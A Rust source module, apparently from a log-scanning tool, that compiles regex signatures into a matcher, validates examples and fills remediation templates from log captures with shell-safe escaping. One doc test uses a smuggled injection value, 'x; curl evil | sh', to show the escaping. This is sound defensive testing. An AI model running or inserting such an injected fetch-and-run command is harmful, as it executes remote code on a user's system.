//! From a [`SignatureSet`] to a ready-to-scan [`Database`]: pattern checks, literal
//! extraction, the two-stage matcher, and every example and counterexample run through it.

pub(crate) mod anchors;
mod buckets;
pub(crate) mod literals;

use std::sync::OnceLock;

use crate::database::matcher::{
    build_regex, Anchors, CompiledPattern, Confirm, Matcher, Owner, MARKERS,
};
use crate::database::Database;

use crate::error::{Error, Limit, Problem, Result};
use crate::signature::{Located, SignatureSet};

use crate::signature::{MAX_PATTERNS, MAX_PATTERN_LEN};
/// Most heap the compiled regexes of one database may take together, in bytes; each
/// pattern alone is held to the NFA size limit of `build_regex` (4 MiB).
pub(crate) const MAX_REGEX_BYTES: usize = 256 << 20;

/// Says why a pattern did not compile, in the signature author's terms.
fn build_error(e: &regex_automata::meta::BuildError) -> String {
    match e.size_limit() {
        Some(limit) => format!(
            "pattern is too large once compiled (over the {} KiB limit): large or nested repetitions such as (a{{1000}}){{1000}} multiply its size; use smaller counts or + and *",
            limit >> 10
        ),
        None => {
            let mut msg = format!("cannot compile: {e}");
            let mut source = std::error::Error::source(e);
            while let Some(s) = source {
                msg.push_str(&format!(": {s}"));
                source = s.source();
            }
            msg
        }
    }
}

fn pattern_problem(set: &SignatureSet, pat: &Located, offset: usize, message: String) -> Problem {
    let mut location = set.locate(&pat.span);
    // Skip the opening quote; the offset is into the pattern text.
    location.column += 1 + pat.value[..offset.min(pat.value.len())].chars().count();
    Problem { location, message }
}

fn placeholders(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(open) = rest.find('{') {
        let after = &rest[open + 1..];
        match after.find('}') {
            Some(close)
                if after[..close]
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'_')
                    && close > 0 =>
            {
                out.push(&after[..close]);
                rest = &after[close + 1..];
            }
            _ => rest = after,
        }
    }
    out
}

/// The compiler's revision, hashed with a database's payload into its hash. Bump it on any
/// change of the compiler or the engine that changes what a compiled database is or does
/// (anchor choice, literal extraction, the dialect, the markers, how a payload is read):
/// `tests::compiler_revision_guard` fails when the payload of a fixed set changes until it is
/// bumped and the guard's record updated.
pub const COMPILER_REVISION: u32 = 2;

/// The database hash: xxh3-64 of the payload an archive of `db` stores (its hash field blank,
/// no DFA: see `Database::identity_payload`) and [`COMPILER_REVISION`]. Comments and the
/// layout of source files do not change it; what the compiler makes of a set does.
fn database_hash(db: &Database) -> Result<String> {
    let mut h = xxhash_rust::xxh3::Xxh3::new();
    h.update(&db.identity_payload()?);
    h.update(&COMPILER_REVISION.to_le_bytes());
    Ok(format!("{:016x}", h.digest()))
}

impl Database {
    /// Compiles and validates a signature set: every pattern must parse, hold a required
    /// literal of at least 4 bytes and not match the empty string; every example must be
    /// found by the full scan pipeline and no counterexample may match.
    pub fn compile(set: &SignatureSet) -> Result<Database> {
        Database::compile_within(set, MAX_REGEX_BYTES)
    }

    /// [`Database::compile`] with a budget for the compiled regexes' memory.
    fn compile_within(set: &SignatureSet, regex_budget: usize) -> Result<Database> {
        let mut regex_bytes = 0usize;
        let mut problems = Vec::new();
        let total: usize = set.signatures.iter().map(|s| s.patterns.len()).sum();
        if total > MAX_PATTERNS {
            return Err(Limit::Patterns {
                count: total,
                max: MAX_PATTERNS,
            }
            .into());
        }
        let mut compiled = Vec::with_capacity(total + MARKERS.len());
        let mut required = Vec::with_capacity(total + MARKERS.len());
        let mut pattern_sources = Vec::with_capacity(total);
        let mut signatures = Vec::with_capacity(set.signatures.len());
        let mut signature_patterns = Vec::with_capacity(set.signatures.len());
        for (si, sig) in set.signatures.iter().enumerate() {
            let mut ids = Vec::new();
            let mut names: Vec<String> = Vec::new();
            for pat in &sig.patterns {
                if pat.value.len() > MAX_PATTERN_LEN {
                    problems.push(pattern_problem(
                        set,
                        pat,
                        0,
                        format!(
                            "pattern is {} bytes; at most {MAX_PATTERN_LEN} are allowed",
                            pat.value.len()
                        ),
                    ));
                    continue;
                }
                let hir = match literals::parse(&pat.value) {
                    Ok(h) => h,
                    Err(e) => {
                        let (offset, msg) = match &e {
                            regex_syntax::Error::Parse(p) => {
                                (p.span().start.offset, p.kind().to_string())
                            }
                            regex_syntax::Error::Translate(t) => {
                                (t.span().start.offset, t.kind().to_string())
                            }
                            other => (0, other.to_string()),
                        };
                        problems.push(pattern_problem(
                            set,
                            pat,
                            offset,
                            format!("bad regex: {msg}"),
                        ));
                        continue;
                    }
                };
                if hir.properties().minimum_len() == Some(0) {
                    problems.push(pattern_problem(
                        set,
                        pat,
                        0,
                        "pattern can match the empty string".into(),
                    ));
                    continue;
                }
                let req = match literals::required(&hir) {
                    Some(r) if r.iter().all(|m| m.len() >= literals::MIN_LITERAL) => r,
                    _ => {
                        problems.push(pattern_problem(
                            set,
                            pat,
                            0,
                            format!(
                                "pattern has no required literal of at least {} bytes for the prefilter; add literal text every match must contain",
                                literals::MIN_LITERAL
                            ),
                        ));
                        continue;
                    }
                };
                let regex = match build_regex(&pat.value) {
                    Ok(r) => r,
                    Err(e) => {
                        problems.push(pattern_problem(set, pat, 0, build_error(&e)));
                        continue;
                    }
                };
                regex_bytes += regex.memory_usage();
                if regex_bytes > regex_budget {
                    return Err(Limit::RegexMemory {
                        location: set.locate(&pat.span),
                        mib: regex_bytes >> 20,
                        max_mib: regex_budget >> 20,
                    }
                    .into());
                }
                for name in regex
                    .group_info()
                    .pattern_names(regex_automata::PatternID::ZERO)
                    .flatten()
                {
                    names.push(name.to_string());
                }
                ids.push(compiled.len() as u32);
                pattern_sources.push(pat.value.clone());
                compiled.push(CompiledPattern::new(
                    Owner::Signature(si as u32),
                    Confirm::Regex(regex),
                    &pat.value,
                    &req,
                ));
                required.push(req);
            }
            for p in placeholders(&sig.info.remediation) {
                if !names.iter().any(|n| n == p) {
                    problems.push(Problem {
                        location: set.locate(&sig.span),
                        message: format!(
                            "remediation uses {{{p}}} but no pattern captures a group named {p:?}"
                        ),
                    });
                }
            }
            signatures.push(sig.info.clone());
            signature_patterns.push(ids);
        }
        if !problems.is_empty() {
            return Err(Error::Signatures { problems });
        }
        for &(marker, pat) in MARKERS {
            let hir = literals::parse(pat).map_err(|e| Limit::MarkerSyntax(Box::new(e)))?;
            let req = literals::required(&hir).unwrap_or_default();
            compiled.push(CompiledPattern::new(
                Owner::Marker(marker),
                Confirm::Regex(build_regex(pat).map_err(|e| Limit::MarkerRegex(Box::new(e)))?),
                pat,
                &req,
            ));
            required.push(req);
        }
        let members = crate::database::matcher::distinct_members(&required);
        let choice = anchors::choose_anchors(&members);
        let anchors = Anchors {
            list: choice.anchors,
            packed: choice.packed,
            rates: choice.per_mib,
        };
        let matcher = Matcher::build(compiled, &required, anchors, None).map_err(Limit::Matcher)?;
        let capture_regexes = (0..pattern_sources.len())
            .map(|_| OnceLock::new())
            .collect();
        let mut db = Database {
            name: set.info.name.clone(),
            version: set.info.version.clone(),
            hash: String::new(),
            signatures,
            signature_patterns,
            pattern_sources,
            matcher,
            capture_regexes,
        };
        db.hash = database_hash(&db)?;
        db.check_examples(set)?;
        Ok(db)
    }

    /// Runs every example and counterexample of `set` through this database (as compiled
    /// from `set`, or loaded from an archive of it): each example must match its signature
    /// through the full pipeline, no counterexample may match.
    pub fn check_examples(&self, set: &SignatureSet) -> Result<()> {
        let mut problems = Vec::new();
        for (si, sig) in set.signatures.iter().enumerate() {
            let Some(_) = self.signatures.get(si).filter(|i| i.id == sig.info.id) else {
                problems.push(Problem {
                    location: set.locate(&sig.span),
                    message: format!("signature {} is not in this database", sig.info.id),
                });
                continue;
            };
            // A signature with a pattern skipped for its confirmation cost may miss its
            // examples: the caller warns of the skipped pattern instead.
            let skipped = self.skipped_patterns().any(|(s, _, _)| s as usize == si);
            for ex in &sig.examples {
                let hit = self.match_line(ex.value.trim_end_matches(['\n', '\r']).as_bytes());
                if !hit.signatures.contains(&(si as u32)) && !skipped {
                    problems.push(Problem {
                        location: set.locate(&ex.span),
                        message: format!("example does not match signature {}", sig.info.id),
                    });
                }
            }
            for cx in &sig.counterexamples {
                let line = cx.value.trim_end_matches(['\n', '\r']).as_bytes();
                if self.signature_patterns[si]
                    .iter()
                    .any(|&p| self.matcher.is_match(p as usize, line))
                {
                    problems.push(Problem {
                        location: set.locate(&cx.span),
                        message: format!("counterexample matches signature {}", sig.info.id),
                    });
                }
            }
        }
        if problems.is_empty() {
            Ok(())
        } else {
            Err(Error::Signatures { problems })
        }
    }

    /// What the prefilter is expected to cost, measured on a generated healthy serving log
    /// (`anchors::background`): the share of lines handed to confirmation, the anchors
    /// seen more than `per_mib` times per MiB, and the patterns whose own required literals
    /// are that common (every line holding one must be confirmed, whatever the anchors).
    pub fn prefilter_load(&self, per_mib: f64) -> PrefilterLoad {
        let sample = anchors::background();
        let profile = self.matcher.candidate_profile(sample);
        let mib = sample.len() as f64 / (1 << 20) as f64;
        let anchors = self
            .matcher
            .anchors()
            .iter()
            .zip(&profile.per_anchor)
            .map(|(a, &n)| (String::from_utf8_lossy(a).into_owned(), n as f64 / mib))
            .filter(|(_, r)| *r > per_mib)
            .collect();
        let members: Vec<(&[u8], &[u32])> = self.matcher.members().collect();
        let mut seen = vec![0u64; members.len()];
        if let Ok(ac) = aho_corasick::AhoCorasick::builder()
            .match_kind(aho_corasick::MatchKind::Standard)
            .build(members.iter().map(|m| m.0))
        {
            for m in ac.find_overlapping_iter(sample) {
                seen[m.pattern().as_usize()] += 1;
            }
        }
        let mut per_pattern = vec![(0.0f64, Vec::<String>::new()); self.matcher.patterns.len()];
        for ((member, patterns), n) in members.iter().zip(seen) {
            // Too short to anchor: such a literal never makes a line a candidate.
            if member.len() < literals::MIN_LITERAL {
                continue;
            }
            for &p in *patterns {
                let slot = &mut per_pattern[p as usize];
                slot.0 += n as f64 / mib;
                slot.1.push(String::from_utf8_lossy(member).into_owned());
            }
        }
        let mut common = Vec::new();
        for (p, (rate, literals)) in per_pattern.into_iter().enumerate() {
            if rate <= per_mib {
                continue;
            }
            let owner = match self.matcher.patterns[p].owner {
                Owner::Signature(s) => self.signatures[s as usize].id.clone(),
                Owner::Marker(m) => format!("(marker {m:?})"),
            };
            common.push(CommonLiteral {
                owner,
                literals,
                per_mib: rate,
            });
        }
        common.sort_by(|a, b| b.per_mib.total_cmp(&a.per_mib).then(a.owner.cmp(&b.owner)));
        PrefilterLoad {
            candidate_lines_per_mib: profile.candidate_lines as f64 / mib,
            candidate_line_share: profile.candidate_lines as f64 / profile.lines.max(1) as f64,
            anchors,
            common,
        }
    }
}

/// The prefilter's expected load, from [`Database::prefilter_load`].
#[derive(Clone, Debug)]
pub struct PrefilterLoad {
    /// Candidate lines per MiB of the generated healthy serving log.
    pub candidate_lines_per_mib: f64,
    /// The share of that log's lines that are candidates.
    pub candidate_line_share: f64,
    /// Anchors seen more often than the threshold, with their rate per MiB: common text the
    /// compiler accepted to keep the packed searcher within its 64 literals.
    pub anchors: Vec<(String, f64)>,
    /// Patterns whose required literals are common, most expensive first.
    pub common: Vec<CommonLiteral>,
}

/// A pattern whose only literals are common in ordinary log text.
#[derive(Clone, Debug)]
pub struct CommonLiteral {
    /// The signature id, or `(marker NAME)` for a structural marker.
    pub owner: String,
    /// Its required literals (any one of them may be on a matching line).
    pub literals: Vec<String>,
    /// Their occurrences per MiB of ordinary serving log, summed.
    pub per_mib: f64,
}

/// A pattern with its capture groups' names dropped (`(?P<gpu>\d+)` becomes `(\d+)`), the
/// matching unchanged: tools that join many patterns into one regex (`rg -f`) reject a name
/// used twice. A pattern that does not parse is returned as it is.
///
/// ```
/// assert_eq!(faultline_db::unnamed(r"GPU (?P<gpu>\d+) (?<x>a)"), r"GPU (\d+) (a)");
/// ```
pub fn unnamed(pattern: &str) -> String {
    use regex_syntax::ast::{self, Ast, GroupKind};
    struct Names(Vec<(usize, usize)>);
    impl ast::Visitor for Names {
        type Output = Vec<(usize, usize)>;
        type Err = ();
        fn finish(self) -> Result<Self::Output, ()> {
            Ok(self.0)
        }
        fn visit_pre(&mut self, ast: &Ast) -> Result<(), ()> {
            if let Ast::Group(g) = ast {
                if let GroupKind::CaptureName { name, .. } = &g.kind {
                    // From just after `(` through the `>` that closes the name.
                    self.0
                        .push((g.span.start.offset + 1, name.span.end.offset + 1));
                }
            }
            Ok(())
        }
    }
    let Ok(ast) = ast::parse::Parser::new().parse(pattern) else {
        return pattern.to_string();
    };
    let Ok(mut names) = ast::visit(&ast, Names(Vec::new())) else {
        return pattern.to_string();
    };
    names.sort_unstable();
    let mut out = String::with_capacity(pattern.len());
    let mut at = 0;
    for (start, end) in names {
        if start < at || end > pattern.len() {
            return pattern.to_string();
        }
        out.push_str(&pattern[at..start]);
        at = end;
    }
    out.push_str(&pattern[at..]);
    out
}

/// Longest capture text put into a remediation; the rest is counted.
pub const MAX_CAPTURE_IN_REMEDIATION: usize = 256;

/// The word shown for a placeholder whose capture did not match (an optional group).
pub const MISSING_CAPTURE: &str = "(not captured)";

/// Fills the `{name}` placeholders of `text` from `captures` in one pass over `text`: the
/// inserted values are never scanned again (a capture holding `{other}` stays as written),
/// each is cut at [`MAX_CAPTURE_IN_REMEDIATION`] bytes with `…(N more bytes)`, and a
/// placeholder with no capture gets [`MISSING_CAPTURE`], never its raw `{name}`. Braces that
/// do not form a placeholder (`{}`, `{a b}`) are kept. The output is at most `text.len()`
/// plus 300 bytes per placeholder, whatever the captures hold.
///
/// A capture is log text, and logs carry text that outsiders control: each is shown quoted,
/// `«like this»`, never completed into a command. Pasted into a shell, a Fix line runs
/// nothing the log wrote: the quote marks make the word no valid name or value, and the
/// bytes that would end a shell word or start a new command or substitution (`;`, `|`, `&`,
/// `$`, `` ` ``, `<`, `>`, `\`, line breaks) and the quote marks themselves are written as
/// `\xNN`.
///
/// ```
/// use faultline_db::interpolate;
/// let caps = vec![("m".to_string(), "{m}{m}".to_string())];
/// assert_eq!(interpolate("pip install {m} ({x})", &caps), "pip install «{m}{m}» ((not captured))");
/// let lure = vec![("m".to_string(), "x; curl evil | sh".to_string())];
/// assert_eq!(interpolate("pip install {m}", &lure), "pip install «x\\x3b curl evil \\x7c sh»");
/// ```
pub fn interpolate(text: &str, captures: &[(String, String)]) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        let after = &rest[open + 1..];
        let name_len = after
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
            .count();
        if name_len > 0 && after.as_bytes().get(name_len) == Some(&b'}') {
            let name = &after[..name_len];
            match captures.iter().find(|(n, _)| n == name) {
                Some((_, value)) => push_capture(&mut out, value),
                None => out.push_str(MISSING_CAPTURE),
            }
            rest = &after[name_len + 1..];
        } else {
            out.push('{');
            rest = after;
        }
    }
    out.push_str(rest);
    out
}

/// Appends capture `value` quoted as log text (see [`interpolate`]): `«value»`, its shell
/// bytes and quote marks escaped, cut once the escaped text reaches
/// [`MAX_CAPTURE_IN_REMEDIATION`] bytes, saying how many bytes of the value were left out.
fn push_capture(out: &mut String, value: &str) {
    out.push('«');
    let start = out.len();
    for (at, c) in value.char_indices() {
        let escaped = matches!(
            c,
            ';' | '|' | '&' | '$' | '`' | '<' | '>' | '\\' | '\n' | '\r' | '«' | '»'
        );
        let width = if escaped {
            c.len_utf8() * 4
        } else {
            c.len_utf8()
        };
        if out.len() - start + width > MAX_CAPTURE_IN_REMEDIATION {
            out.push_str(&format!("…({} more bytes)", value.len() - at));
            break;
        }
        if escaped {
            let mut buf = [0u8; 4];
            for b in c.encode_utf8(&mut buf).bytes() {
                out.push_str(&format!("\\x{b:02x}"));
            }
        } else {
            out.push(c);
        }
    }
    out.push('»');
}

#[cfg(test)]
mod tests;
